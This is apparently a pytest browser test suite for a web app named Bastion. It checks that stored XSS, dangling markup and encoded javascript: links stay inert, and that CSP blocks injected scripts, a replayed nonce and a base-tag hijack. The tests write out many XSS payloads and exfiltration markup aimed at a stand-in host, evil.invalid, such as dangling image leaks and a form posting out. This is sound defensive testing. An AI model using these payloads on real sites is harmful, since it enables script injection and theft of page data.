"""A hostile reviewer's XSS and CSP checks in a real Chromium, beyond test_xss_browser.

Covered here: text an anonymous attacker plants for an admin to read (CSP reports in the
audit log, a user agent, an upload's file name, a username that bypassed validation, filter
and search queries, flash messages, error pages 400/404/405/413); dangling and unbalanced
markup that would swallow the rest of a page or carry it off in a URL, and Markdown table
alignment kept without an inline style; each CSP directive enforced in the browser,
including a nonce replayed from an earlier response and an injected ``<base>``; the
anonymous page store never serving a body that holds a CSP nonce; and the sanitised HTML
safe on its own, on a page with no CSP, for every spelling of a script-capable URL scheme.
"""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import quote

import pytest

from tests.browser.test_xss_browser import DOM_CHECK
from tests.content.xss_payloads import PAYLOADS, SET
from tests.support.browser import CSP_LISTENER, inject_markup, sign_in

pytestmark = pytest.mark.browser

EVIL = "evil.invalid"
# Markup left open so that, unescaped, it swallows the page after it (<plaintext>, <textarea>,
# comments) or sends it off in a URL (dangling markup); plus encoded script schemes.
DANGLING = [
    f"<img src='http://{EVIL}/leak?",
    f'<img src="http://{EVIL}/leak?',
    f"<a href='http://{EVIL}/leak?",
    f"<form action='http://{EVIL}/'><button>",
    f"<link rel=stylesheet href='http://{EVIL}/x.css'>",
    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
    f"<base href='http://{EVIL}/'>",
    "<plaintext>", "<textarea>", "<!--", "<style>", "<title>", "<xmp>", "<noembed>",
    "<noframes>", "<iframe>", "<select>", "<table><tr><td>", "</main></body></html>",
    "<svg><style>", "<math><style>", "<input value='", '"', "'",
    f"`<img src='http://{EVIL}/leak?`",
    f"```\n<img src='http://{EVIL}/leak?\n```",
    f"![x](http://{EVIL}/leak?",
    f"[x](http://{EVIL}/leak?a=",
    f"![a<img src='http://{EVIL}/leak?](/uploads/0123456789abcdef0123456789abcdef)",
    f"| a | b |\n|---|---|\n| <img src='http://{EVIL}/leak? | ![x](http://{EVIL}/i.png) |",
    f"[x](&#x6A;avascript:{SET})",
    f"[x](&#0000106avascript:{SET})",
    f"[x](javascript&colon;{SET})",
    f"[x](java&#x0A;script:{SET})",
    f"[x](java&Tab;script:{SET})",
    "[x](vbscript&#58;msgbox(1))",
    "[x](data&colon;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x][r]\n\n[r]: &#106;avascript:{SET}",
]
# GFM column alignment, which must survive sanitising without an inline style.
ALIGNED = "| left | centre | right |\n|:-----|:------:|------:|\n| l | c | r |"
# After every page: the page ends where the layout ends, and no URL holds swallowed markup.
INTACT_CHECK = """() => {
  const bad = [];
  const footer = document.querySelector('footer.site-footer a[href="/.well-known/security.txt"]');
  if (!footer || !footer.checkVisibility()) bad.push('footer swallowed');
  if (document.querySelectorAll('main').length !== 1) bad.push('main element count');
  if (!document.title.endsWith(' \\u00b7 Bastion')) bad.push('title broken: ' + document.title);
  for (const el of document.querySelectorAll('[href], [src], [action], [formaction]')) {
    for (const name of ['href', 'src', 'action', 'formaction']) {
      const v = el.getAttribute(name);
      if (v !== null && /[<>\\n]/.test(v)) bad.push(el.tagName + ' ' + name + '=' + v.slice(0, 60));
    }
  }
  // What a click would really open, after the browser's own URL parsing.
  for (const a of document.links) {
    if (!['http:', 'https:', 'mailto:'].includes(a.protocol)) bad.push('link to ' + a.protocol);
  }
  return bad;
}"""


def _nonce(response: Any) -> str:
    match = re.search(r"'nonce-([^']+)'", response.headers["content-security-policy"])
    assert match, response.headers["content-security-policy"]
    return match.group(1)


def _problems(pg: Any, url: str, status: int = 200) -> list[str]:
    resp = pg.goto(url)
    assert resp is not None and resp.status == status, (url, resp and resp.status)
    pg.wait_for_timeout(100)  # let failed images fire their (stripped) onerror handlers
    found = pg.evaluate(DOM_CHECK) + pg.evaluate(INTACT_CHECK)
    return [f"{url}: {problem}" for problem in found]


@pytest.mark.asvs("V1.2.1", "V1.3.1", "V1.3.5", "V3.4.3")
def test_dangling_markup_neither_swallows_nor_leaks_the_page(live_server, page) -> None:  # type: ignore[no-untyped-def]
    from bastion.content import services as content
    from bastion.extensions import db
    from tests.factories import UserFactory

    live = live_server()
    with live.app.app_context():
        author = UserFactory(role_name="editor", username="dangler",
                             display_name="<plaintext><img src='http://evil.invalid/?")
        article = content.create_article(
            author, title="<plaintext><textarea><!--<img src='http://evil.invalid/?",
            body="\n\n".join([*DANGLING, ALIGNED]), publish=True,
        )
        for n, payload in enumerate(DANGLING):
            reader = UserFactory(username=f"dm{n}", display_name=payload[:80], bio=payload)
            content.add_comment(reader, article, payload)
        author.bio = "\n\n".join(DANGLING)
        db.session.commit()
        article_id = article.id
    pg, watch = page
    leaks: list[str] = []
    pg.on("request", lambda r: leaks.append(r.url) if EVIL in r.url else None)
    base = live.url
    problems: list[str] = []
    for url in (f"{base}/articles/{article_id}", f"{base}/u/dangler", f"{base}/u/dm0",
                f"{base}/u/dm7", f"{base}/articles", f"{base}/"):
        problems += _problems(pg, url)
    # The comment list survived the article body: every comment is its own item.
    pg.goto(f"{base}/articles/{article_id}")
    assert pg.locator("li.card[id^=comment-]").count() == len(DANGLING)
    aligned = pg.locator(".prose table").last.locator("td")
    assert [aligned.nth(n).evaluate("td => getComputedStyle(td).textAlign") for n in range(3)] == [
        "left", "center", "right"]
    assert watch.csp_violations == []
    assert not problems, "\n".join(problems[:30])
    assert leaks == []
    assert pg.evaluate("window.__xss") is None
    assert watch.dialogs == []


@pytest.mark.asvs("V1.2.1", "V1.2.3", "V3.4.3", "V16.5.1")
def test_text_an_attacker_plants_for_admins_stays_text(live_server, page) -> None:  # type: ignore[no-untyped-def]
    from sqlalchemy import select

    from bastion.content import services as content
    from bastion.extensions import db
    from bastion.models import Upload
    from tests.factories import PASSWORD, ArticleFactory, UserFactory
    from tests.support.auth import AuthActions
    from tests.uploads import corpus
    from tests.uploads.conftest import post_file

    live = live_server()
    # Usernames are validated to [a-z0-9_-]; this one skips the validator, as a future
    # import or a relaxed rule might, to prove the templates do not rely on it.
    bad_name = "<svg onload=window.__xss=1>"
    upload_name = f"\"><img src=x onerror={SET}>.png"
    with live.app.app_context():
        admin = UserFactory(role_name="admin", username="boss")
        odd = UserFactory(username=bad_name)
        editor = UserFactory(role_name="editor", display_name=PAYLOADS[9][:80])
        article = ArticleFactory(author=editor, title=PAYLOADS[6])
        content.add_comment(odd, article, PAYLOADS[10])  # a byline with that username
        client = live.app.test_client()
        AuthActions(client).login(editor.username, PASSWORD)
        resp = post_file(client, f"/articles/{article.id}/images", corpus.png())
        assert resp.status_code == 302
        # A browser sends '"' in a file name as %22; stored raw, as another client could.
        upload = db.session.scalars(select(Upload)).one()
        upload.original_name = upload_name
        db.session.commit()
        article_id, admin_name = article.id, admin.username
    pg, watch = page
    base = live.url
    # Anonymous: CSP reports land in the audit trail (one row per address and minute).
    pg.goto(f"{base}/")
    report = {
        "blocked-uri": f"http://{EVIL}/</code><script>{SET}</script>",
        "document-uri": f"{base}/<img src=x onerror={SET}>",
        "violated-directive": f"</code><script>{SET}</script>",
        "effective-directive": f"<img src=x onerror={SET}>",
        "disposition": "\u2028</script><script>alert(1)</script><!--",
        "source-file": f"javascript:{SET}",
        "line-number": "<svg onload=alert(1)>",
    }
    status = pg.evaluate(
        """r => fetch('/csp-report', {method: 'POST', body: JSON.stringify({'csp-report': r}),
                 headers: {'Content-Type': 'application/csp-report'}}).then(x => x.status)""",
        report,
    )
    assert status == 204
    # The admin's own session row keeps the user agent it signed in with.
    pg.set_extra_http_headers({"User-Agent": f"</td><img src=x onerror={SET}>"})
    sign_in(pg, base, admin_name)
    q = quote(PAYLOADS[8])
    problems: list[str] = []
    for url in (
        f"{base}/admin/audit?event=csp.report",
        f"{base}/admin/audit?event={q}&user={q}&since={q}",
        f"{base}/admin/users",
        f"{base}/admin/users?q={q}",
        f"{base}/admin/security",
        f"{base}/account",
        f"{base}/articles/{article_id}",
        f"{base}/articles/{article_id}/images",
    ):
        problems += _problems(pg, url, status=400 if "since=" in url else 200)
    # Error pages, with the payload in the path and the query.
    for url, status in ((f"{base}/u/{quote(bad_name)}", 404), (f"{base}/nope/{q}?{q}", 404),
                        (f"{base}/auth/logout?next={q}", 405)):
        problems += _problems(pg, url, status=status)
    with pg.expect_navigation() as too_large:  # 413: a form body over MAX_CONTENT_LENGTH
        pg.evaluate("""q => {
          const f = document.createElement('form');
          f.method = 'post';
          f.action = '/auth/logout?next=' + q;
          const t = document.createElement('textarea');
          t.name = 'x';
          t.value = 'a'.repeat(1100000) + q;
          f.appendChild(t);
          document.body.appendChild(f);
          f.submit();
        }""", q)
    assert too_large.value.status == 413
    problems += [f"413: {p}" for p in pg.evaluate(DOM_CHECK) + pg.evaluate(INTACT_CHECK)]
    # The planted text reached the pages, shown as the text it is.
    pg.goto(f"{base}/admin/audit?event=csp.report")
    # Readable as sent (escaped as HTML, not as JSON), invisible characters as escapes.
    assert "</code><script>" in pg.locator("table").inner_text()
    pg.goto(f"{base}/articles/{article_id}/images")
    assert pg.locator("td img").first.get_attribute("alt") == upload_name
    # An admin action flashes the username back.
    pg.goto(f"{base}/admin/users?q=svg")
    # The question before disabling names the user too: as text, in a native dialog.
    watch.confirms.add(f"Disable {bad_name}? Their sessions and tokens end at once.")
    pg.get_by_role("button", name=f"Disable {bad_name}").click()
    pg.wait_for_load_state()
    assert bad_name in pg.locator(".flashes").inner_text()
    problems += [f"flash: {p}" for p in pg.evaluate(DOM_CHECK)]
    assert not problems, "\n".join(problems[:30])
    assert pg.evaluate("window.__xss") is None
    assert watch.dialogs == []


@pytest.mark.asvs("V3.4.3")
def test_csp_blocks_each_injection_and_a_replayed_nonce(live_server, page) -> None:  # type: ignore[no-untyped-def]
    from tests.factories import ArticleFactory

    live = live_server()
    with live.app.app_context():
        article_id = ArticleFactory().id
    pg, watch = page
    watch.violations_expected = True
    pg.add_init_script(CSP_LISTENER)
    url = f"{live.url}/articles/{article_id}"
    earlier = _nonce(pg.goto(url))

    # As if markup had slipped past escaping, in the HTML the browser receives under the
    # server's own headers: each element tests one directive.
    def hostile(response: Any) -> dict[str, str]:
        current = _nonce(response)
        return {
            "</head>": (
                f'<base href="http://{EVIL}/">'
                f'<style nonce="{earlier}">#main {{ color: rgb(4, 5, 6) }}</style>'
            ),
            "</article>": (
                f'<script nonce="{earlier}">window.__xss = "replayed nonce"</script>'
                '<script>window.__xss = "no nonce"</script>'
                f'<script nonce="{current}">window.__fresh = 1</script>'  # control: it runs
                f'<script src="http://{EVIL}/x.js"></script>'
                '<p id="styled" style="color: rgb(1, 2, 3)">x</p>'
                '<iframe src="/"></iframe>'
                '<object data="/static/favicon.svg" type="image/svg+xml"></object>'
                f'<img src="http://{EVIL}/leak?">'
                f'<form id="exfil" action="http://{EVIL}/" method="post">'
                '<input name="x" value="y"></form>'
            ),
        }

    inject_markup(pg, url, hostile)
    current = _nonce(pg.goto(url))
    assert earlier != current
    result = pg.evaluate("""() => {
      const link = document.createElement('a');
      link.href = 'relative';
      return {base: document.baseURI, link: link.href};
    }""")
    pg.evaluate("document.getElementById('exfil').requestSubmit()")
    pg.wait_for_timeout(500)
    assert pg.url == url  # the form did not leave the site
    assert result["base"] == url and result["link"].startswith(live.url + "/")
    assert pg.evaluate("window.__xss") is None
    assert pg.evaluate("window.__fresh") == 1
    assert pg.evaluate("getComputedStyle(document.getElementById('styled')).color") != "rgb(1, 2, 3)"
    assert pg.evaluate("getComputedStyle(document.getElementById('main')).color") != "rgb(4, 5, 6)"
    seen = set(pg.evaluate("window.__csp"))
    expected = {"base-uri", "script-src-elem", "style-src-attr", "style-src-elem", "frame-src",
                "object-src", "img-src", "form-action"}
    assert expected <= seen, f"not blocked: {expected - seen}"
    assert watch.dialogs == []


@pytest.mark.asvs("V3.4.3", "V14.2.2")
def test_stored_public_pages_never_carry_a_nonce(make_app, page) -> None:  # type: ignore[no-untyped-def]
    from flask import render_template_string

    from bastion.pagecache import cached_public_page
    from bastion.security.access import public
    from tests.factories import ArticleFactory, UserFactory
    from tests.support.browser import serve

    app = make_app(PUBLIC_PAGE_CACHE_SECONDS=60, TRUSTED_HOSTS=["127.0.0.1", "localhost"])

    # A public page that grows an inline script, as a future template might.
    @app.get("/nonce-probe")
    @public
    @cached_public_page
    def nonce_probe() -> str:
        return render_template_string(
            "<!doctype html><title>p</title>"
            "<script nonce='{{ csp_nonce() }}'>window.__ran = 1</script>"
        )

    with app.app_context():
        author = UserFactory(role_name="editor", username="cached")
        article_id = ArticleFactory(author=author).id
    live = serve(app)
    try:
        pg, watch = page
        nonces: list[str] = []
        for path in ("/", f"/articles/{article_id}", "/u/cached"):
            etags = set()
            for _ in range(2):  # the second is revalidated: 304, the stored body reused
                resp = pg.goto(live.url + path)
                etags.add(resp.headers["etag"])
                nonces.append(_nonce(resp))
                assert "nonce" not in resp.text(), path
            assert len(etags) == 1, path
        for _ in range(2):
            resp = pg.goto(live.url + "/nonce-probe")
            nonce = _nonce(resp)
            nonces.append(nonce)
            assert f"nonce='{nonce}'" in resp.text()
            assert pg.evaluate("window.__ran") == 1, "a stored copy replayed an old nonce"
        assert len(set(nonces)) == len(nonces)
        assert watch.csp_violations == []
    finally:
        live.stop()


def _scheme_spellings() -> list[str]:
    """Markdown links, images, references and autolinks to script-capable schemes, spelled
    every way a parser might still read as the scheme: case, entities (named, decimal with
    and without ``;``, hex, padded), tabs, line breaks, NUL, DEL, BOM and spaces inside or
    before it, and each spelling of the colon."""
    spelled = []
    for scheme in ("javascript", "vbscript", "data", "blob", "filesystem", "view-source"):
        head, tail = scheme[0], scheme[1:]
        spelled += [scheme, scheme.upper(), scheme.title(), f"&#{ord(head)};{tail}",
                    f"&#{ord(head)}{tail}", f"&#x{ord(head):x};{tail}", f"&#0000{ord(head)}{tail}",
                    f"{scheme[:4]}&Tab;{scheme[4:]}", f"{scheme[:4]}&#x09;{scheme[4:]}",
                    f"{scheme[:4]}&NewLine;{scheme[4:]}", f"{scheme[:4]}&#13;{scheme[4:]}",
                    f"{scheme[:4]}\\{scheme[4:]}", f"&#x0;{scheme}", f"&#x1;{scheme}",
                    f"&#x7f;{scheme}", f"&#xfeff;{scheme}", f"&#x20;{scheme}", f" {scheme}"]
    out = []
    for word in spelled:
        for colon in (":", "&colon;", "&#58;", "&#x3a;", "&#X3A;", "&#0058;", "%3a"):
            url = f"{word}{colon}{SET}//"
            out += [f"[a]({url})", f"[a](<{url}>)", f'[a]({url} "t")', f"![a]({url})",
                    f"[a][r]\n\n[r]: {url}\n", f"<{url}>"]
    return out


@pytest.mark.asvs("V1.2.2", "V1.3.1", "V1.3.5")
def test_stored_html_is_safe_without_the_csp(page) -> None:  # type: ignore[no-untyped-def]
    """The sanitiser alone, without the CSP behind it: the HTML stored for thousands of
    scheme spellings (and every payload), served on a page with no policy at all, holds
    only allowlisted markup; every link Chromium resolves is http(s) or mailto, every image
    one of the site's uploads; nothing runs and nothing is fetched from another host."""
    from bastion.content.rendering import ATTRIBUTES, TAGS, render_markdown

    sources = [*_scheme_spellings(), *PAYLOADS, *DANGLING]
    body = "".join(f"<div>{render_markdown(source)}</div>" for source in sources)
    pg, watch = page
    requests: list[str] = []
    site = "http://bastion.test"

    def answer(route: Any) -> None:
        requests.append(route.request.url)
        if route.request.url == f"{site}/a":
            route.fulfill(content_type="text/html", body=f"<!doctype html><body>{body}")
        else:
            route.fulfill(status=404)

    pg.route("**/*", answer)
    pg.goto(f"{site}/a")
    pg.wait_for_timeout(200)
    found = pg.evaluate(
        """([tags, attributes]) => {
          const bad = [];
          for (const el of document.body.querySelectorAll('*')) {
            const tag = el.localName;
            if (tag !== 'div' && !tags.includes(tag)) bad.push('element ' + tag);
            for (const a of el.attributes) {
              if (a.name !== 'rel' && !(attributes[tag] || []).includes(a.name)) {
                bad.push(tag + ' ' + a.name);
              }
            }
          }
          for (const a of document.querySelectorAll('a[href]')) {
            if (!['http:', 'https:', 'mailto:'].includes(a.protocol)) bad.push('link ' + a.href);
          }
          for (const img of document.querySelectorAll('img[src]')) {
            const url = new URL(img.src);
            if (url.origin !== location.origin || !url.pathname.startsWith('/uploads/')) {
              bad.push('image ' + img.src);
            }
          }
          return bad;
        }""",
        [sorted(TAGS), {tag: sorted(names) for tag, names in ATTRIBUTES.items()}],
    )
    assert pg.evaluate("document.querySelectorAll('a[href]').length") > 100  # links kept
    assert found == []
    assert [url for url in requests if not url.startswith(site + "/")] == []
    assert pg.evaluate("window.__xss") is None
    assert watch.dialogs == []
